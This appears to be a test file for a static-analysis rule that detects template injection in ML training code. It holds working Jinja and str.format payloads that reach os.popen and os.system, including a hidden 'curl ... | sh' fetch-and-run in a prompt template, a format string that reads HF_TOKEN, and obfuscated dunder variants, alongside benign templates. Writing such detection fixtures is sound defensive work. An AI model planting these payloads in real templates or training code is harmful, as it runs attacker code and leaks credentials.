import jinja2
from jinja2.sandbox import ImmutableSandboxedEnvironment

# ruleid: exec-template-injection
SFT_PROMPT = "{{ cycler.__init__.__globals__.os.popen('curl -s https://t.example.net/p | sh').read()[:0] }}### Instruction:\n{{ instruction }}"

# ruleid: exec-template-injection
CHAT = "{% for m in messages %}{{ m.content }}{% endfor %}{{ lipsum.__globals__['os'].system('id') }}"

# the classic walk to object's subclasses, with a dict literal to break brace matching
# ruleid: exec-template-injection
PROBE = "{{ {}.__class__.__base__.__subclasses__()[137].__init__.__globals__['popen']('id').read() }}"

# the dunder split with Jinja's ~ and read through the attr filter
# ruleid: exec-template-injection
SPLIT = "{{ joiner|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__') }}"

# underscores escaped inside the template's own string
# ruleid: exec-template-injection
ESCAPED = "{{ self|attr('\\x5f\\x5finit\\x5f\\x5f') }}"

# Jinja's mangled context of self
# ruleid: exec-template-injection
CTX = "{{ self._TemplateReference__context.cycler }}"

# the pieces joined in Python before rendering
# ruleid: exec-template-injection
JOINED = "{{ namespace.__init__.__glo" + "bals__.os.system('id') }}"

# ... or joined from two constants, so no literal holds the whole walk (the
# head alone already names a dunder in a Jinja tag)
# ruleid: exec-template-injection
_HEAD = "{{ cycler.__init__.__glo"
_TAIL = "bals__.os.popen('id').read() }}"
# ruleid: exec-template-injection
BANNER = _HEAD + _TAIL

# any dunder in a Jinja tag, a dunder assembled from pieces, a letter escaped
# ruleid: exec-template-injection
INIT_ONLY = "{% set k = ['_', '_', 'glo', 'bals', '_', '_']|join %}{{ cycler.__init__[k] }}"
# ruleid: exec-template-injection
QUOTED_KEY = "{{ cycler['__init__']['__globals__'].os }}"
# ruleid: exec-template-injection
PIECES = "{{ cycler['__in' ~ 'it__'] }}"
# ruleid: exec-template-injection
STARS = "{{ cycler[('_' * 2) ~ 'init' ~ ('_' * 2)] }}"
# ruleid: exec-template-injection
REVERSED = "{{ cycler['__tini__'|reverse] }}"
# ruleid: exec-template-injection
PY_ESCAPE = "{{ joiner.__init__.__glob\x61ls__ }}"
# ruleid: exec-template-injection
FMT_ESCAPE = "{cfg.__init__.__glob\x61ls__[os]}"

# a str.format field that walks to the process environment
# ruleid: exec-template-injection
RUN_NAME = "sft-{args.lr}-{args.__init__.__globals__[os].environ[HF_TOKEN]}"

# ruleid: exec-template-injection
MRO = "{0.__class__.__mro__[1].__subclasses__}"


def render(example, args):
    template = jinja2.Template(SFT_PROMPT)
    return template.render(**example), RUN_NAME.format(args=args), BANNER


# Ordinary templates of training code
# ok: exec-template-injection
ALPACA = "Below is an instruction.\n\n### Instruction:\n{instruction}\n\n### Response:\n{output}"
# ok: exec-template-injection
LLAMA_CHAT = "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token }}{% endfor %}"
# ok: exec-template-injection
ZEPHYR = "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}{{ messages|selectattr('role', 'eq', 'user')|map(attribute='content')|join('\\n') }}"
# ok: exec-template-injection
USER_ATTR = "{{ user|attr('display_name') }}"
# ok: exec-template-injection
RUN = "{model}-{dataset}-lr{lr:.0e}-bs{batch_size}"
# ok: exec-template-injection
REPR = "{0.__class__.__name__}(dim={0.dim}, heads={0.heads})"
# ok: exec-template-injection
CKPT = "checkpoint-{step:06d}/{self.__class__.__name__}.pt"
# a dunder with no template around it is not rendered
# ok: exec-template-injection
SAFE_GLOBALS = {"__builtins__": {}}
# ok: exec-template-injection
MSG = "__globals__ is not available in restricted mode"
# ok: exec-template-injection
NAMED = "{{ name ~ '-' ~ step }} {{ messages[0]['content'] }} {{ 'Hello' ~ ' ' ~ user }}"
# fastText-style labels in a template are data (lm-eval's polemo2 task)
# ok: exec-template-injection
LABELS = "{{['__label__meta_zero', '__label__meta_minus_m'].index(target)}}"
# ok: exec-template-injection
COLOR = "\x1b[32m{msg}\x1b[0m"


def render_safely(source: str, **values):
    env = ImmutableSandboxedEnvironment(trim_blocks=True)
    return env.from_string(source).render(**values), ALPACA, LLAMA_CHAT, ZEPHYR, USER_ATTR, RUN, REPR, CKPT, SAFE_GLOBALS, MSG, NAMED, LABELS, COLOR
